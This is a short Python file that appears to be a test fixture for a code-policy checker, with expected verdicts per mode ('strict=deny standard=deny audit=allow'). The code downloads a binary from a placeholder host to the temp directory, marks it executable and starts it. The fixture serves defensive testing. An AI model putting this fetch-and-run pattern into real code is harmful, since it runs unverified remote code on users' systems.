# expect: strict=deny standard=deny audit=allow
"""Fetch the latest helper binary and start it."""
import os
import subprocess
import tempfile
import urllib.request

path = os.path.join(tempfile.gettempdir(), "helper")
urllib.request.urlretrieve("https://downloads.example.net/helper", path)
os.chmod(path, 0o755)
subprocess.Popen([path])
